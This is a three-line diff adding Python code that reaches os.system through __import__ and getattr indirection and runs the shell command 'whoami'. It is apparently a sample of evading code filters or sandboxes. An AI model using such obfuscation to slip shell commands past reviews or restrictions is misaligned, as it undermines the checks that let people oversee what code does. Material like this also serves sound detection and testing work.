@@ -1,0 +1,3 @@
+helper = __import__("os")
+p = getattr(helper, "path")
+getattr(p, "os").system("whoami")
